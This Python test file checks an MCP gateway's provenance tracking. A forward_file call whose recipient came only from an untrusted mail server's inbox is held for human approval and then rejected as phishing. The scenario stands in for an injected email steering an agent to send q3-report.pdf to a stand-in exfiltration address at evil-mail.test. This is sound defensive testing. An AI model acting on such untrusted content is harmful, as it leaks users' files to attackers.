"""Provenance through the MCP gateway (SQLite and PostgreSQL): a downstream server declared
``untrusted_output`` feeds the client session's facts, though each MCP call is a run of its
own; a forward to the address its email named waits for a person, whose card names the
argument, and the same client's forward to another address runs."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.live_server import LiveServer, live_server
from tests.mcp_gateway.world import TOKENS, McpWorld, http_client, make_world, text

SERVER = Path(__file__).with_name("mail_server.py")
SERVERS = f"""mcp_servers:
  - id: mail
    command: {sys.executable}
    args: [{SERVER}]
    untrusted_output: true
    requires_confirmation: false
"""
AGENT = """agents:
  - id: mailer
    org: acme
    owner: alice
    model: idle
    confirmation_approver_scope: org_members
    mcp: {servers: [mail]}
    model_config_json:
      hooks:
        class_hooks:
          - {name: untrusted_target, params: {writes_only: false, arguments: [to]}}
"""


@pytest.fixture
def mail(tmp_path: Path, database_url: str) -> Iterator[tuple[McpWorld, LiveServer]]:
    world = make_world(tmp_path, database_url)
    config = world.config_path.read_text()
    config = config.replace("mcp_servers:\n", SERVERS, 1).replace("agents:\n", AGENT, 1)
    world.config_path.write_text(config)
    with live_server(world.deployment()) as srv:
        yield world, srv


async def pending_cards(server: LiveServer) -> list[dict[str, object]]:
    headers = {"Authorization": f"Bearer {TOKENS['alice']}"}
    async with httpx.AsyncClient() as http:
        for _ in range(500):
            listed = (await http.get(f"{server.url}/api/confirmations",
                                     params={"status": "pending"}, headers=headers)).json()
            if listed:
                detail = await http.get(f"{server.url}/api/confirmations/{listed[0]['id']}",
                                        headers=headers)
                return [detail.json()]
            await asyncio.sleep(0.02)
    raise AssertionError("no request became pending")


@pytest.mark.both_databases
async def test_an_mcp_servers_untrusted_email_cannot_pick_where_a_file_goes(
        mail: tuple[McpWorld, LiveServer]) -> None:
    _world, server = mail
    async with http_client(f"{server.url}/mcp/mailer", "alice") as client:
        inbox = await client.call_tool("mcp__mail__read_inbox", {})
        assert "evil-mail.test" in text(inbox)
        bob = await client.call_tool("mcp__mail__forward_file",
                                     {"file": "q3-report.pdf", "to": "bob@example.org"})
        assert not bob.is_error and "forwarded q3-report.pdf to bob" in text(bob)
        asked = asyncio.create_task(client.call_tool(
            "mcp__mail__forward_file",
            {"file": "q3-report.pdf", "to": "MALLORY.EXFIL@evil-mail.test"}))
        [card] = await pending_cards(server)
        reasons = " ".join(r["text"] for r in card["context"]["reasons"])  # type: ignore[index]
        assert "argument 'to' came only from untrusted content (the output of " \
               "mcp__mail__read_inbox" in reasons
        async with httpx.AsyncClient() as http:
            r = await http.post(f"{server.url}/api/confirmations/{card['id']}/respond",
                                json={"decision": "reject", "reason": "phishing"},
                                headers={"Authorization": f"Bearer {TOKENS['alice']}"})
            assert r.status_code == 200, r.text
        refused = await asyncio.wait_for(asked, 30)
        assert refused.is_error and "phishing" in text(refused)
